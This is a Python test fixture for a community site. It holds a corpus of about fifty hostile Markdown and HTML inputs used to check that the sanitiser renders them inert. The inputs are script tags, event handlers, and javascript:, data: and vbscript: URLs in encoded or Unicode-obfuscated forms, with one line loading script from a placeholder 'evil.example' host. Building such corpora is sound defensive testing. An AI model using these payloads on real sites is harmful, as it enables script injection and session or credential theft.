"""Hostile article bodies (and comment/post text): each must render to HTML that runs nothing.

Shared by tests/community/test_markdown.py (the sanitiser's output, structurally), the browser
test of the rendered bodies (tests/community/test_markdown_browser.py) and the app's browser test.
Every payload that could run calls `window.__xss(<n>)` or `alert(...)`, so a browser test can
install a trap and fail if it is ever called.
"""

from __future__ import annotations

from typing import Final

XSS_CORPUS: Final[list[tuple[str, str]]] = [
    # -- raw HTML (html=False turns it into text; the sanitiser would drop it anyway) --------------
    ("script tag", "<script>window.__xss(1)</script>"),
    ("script tag, mixed case", "<ScRiPt>window.__xss(2)</sCrIpT>"),
    ("script in a paragraph", "hello <script src=//evil.example/x.js></script> world"),
    ("img onerror", "<img src=x onerror=window.__xss(3)>"),
    ("img onerror, quoted", '<img src="x" onerror="window.__xss(4)">'),
    ("svg onload", "<svg onload=window.__xss(5)>"),
    ("svg script", "<svg><script>window.__xss(6)</script></svg>"),
    ("iframe", '<iframe src="javascript:window.__xss(7)"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>window.__xss(8)</script>"></iframe>'),
    ("object data", '<object data="javascript:window.__xss(9)"></object>'),
    ("embed", '<embed src="javascript:window.__xss(10)">'),
    ("body onload", "<body onload=window.__xss(11)>"),
    ("details ontoggle", "<details open ontoggle=window.__xss(12)>x</details>"),
    ("style expression", '<div style="width: expression(window.__xss(13))">x</div>'),
    ("style tag", "<style>@import 'javascript:window.__xss(14)';</style>"),
    ("link tag", '<link rel="stylesheet" href="javascript:window.__xss(15)">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(16)">'),
    ("form action", '<form action="javascript:window.__xss(17)"><button>go</button></form>'),
    ("base href", '<base href="javascript:window.__xss(18)//">'),
    ("math href", '<math><a xlink:href="javascript:window.__xss(19)">x</a></math>'),
    ("comment breakout", "<!-- --><script>window.__xss(20)</script> -->"),
    ("cdata", "<![CDATA[<script>window.__xss(21)</script>]]>"),
    ("unclosed attribute", '<a href="http://ok.example" onmouseover="window.__xss(22)">x</a>'),
    ("html block", "<div>\n<img src=x onerror=window.__xss(23)>\n</div>"),
    # -- Markdown links and images with dangerous URLs -------------------------------------------
    ("markdown javascript link", "[click](javascript:window.__xss(24))"),
    ("markdown javascript, case", "[click](JaVaScRiPt:window.__xss(25))"),
    ("markdown javascript, tab entity", "[click](jav&#x09;ascript:window.__xss(26))"),
    ("markdown javascript, newline entity", "[click](jav&#x0A;ascript:window.__xss(27))"),
    (
        "markdown javascript, decimal entities",
        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__xss(28))",
    ),
    ("markdown javascript, colon entity", "[click](javascript&colon;window.__xss(29))"),
    ("markdown javascript, percent tab", "[click](jav%09ascript:window.__xss(30))"),
    ("markdown javascript, leading space", "[click]( javascript:window.__xss(31))"),
    ("markdown javascript, angle brackets", "[click](<javascript:window.__xss(32)>)"),
    ("markdown vbscript", "[click](vbscript:msgbox(33))"),
    ("markdown data html", "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMzQpPC9zY3JpcHQ+)"),
    ("markdown data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzKDM1KT4=)"),
    ("markdown file", "[click](file:///etc/passwd)"),
    ("markdown image javascript", "![x](javascript:window.__xss(36))"),
    ("reference link javascript", "[click][r]\n\n[r]: javascript:window.__xss(37)"),
    ("autolink javascript", "<javascript:window.__xss(38)>"),
    ("link title breakout", '[x](http://ok.example "a\\" onmouseover=\\"window.__xss(39)")'),
    ("image alt breakout", '![" onerror="window.__xss(40)](http://ok.example/x.png)'),
    ("fullwidth scheme", "[click](ｊａｖａｓｃｒｉｐｔ：window.__xss(41))"),
    ("zero-width in scheme", "[click](java\u200bscript:window.__xss(42))"),
    ("null byte in scheme", "[click](java&#0;script:window.__xss(43))"),
    ("double percent", "[click](jav%2509ascript:window.__xss(44))"),
    # -- Unicode tricks ----------------------------------------------------------------------------
    ("fullwidth script", "＜script＞window.__xss(45)＜/script＞"),
    ("rtl override", "evil\u202egpj.exe and \u2066isolated\u2069"),
    ("zero width joiner text", "a\u200bb\u200cc\u200dd"),
    ("homoglyph tag", "<ѕcript>window.__xss(46)</ѕcript>"),
    # -- code spans and blocks keep text as text ---------------------------------------------------
    ("code span", "`<script>window.__xss(47)</script>`"),
    ("code block", "```html\n<img src=x onerror=window.__xss(48)>\n```"),
    ("table cell", "| a |\n|---|\n| <img src=x onerror=window.__xss(49)> |"),
]
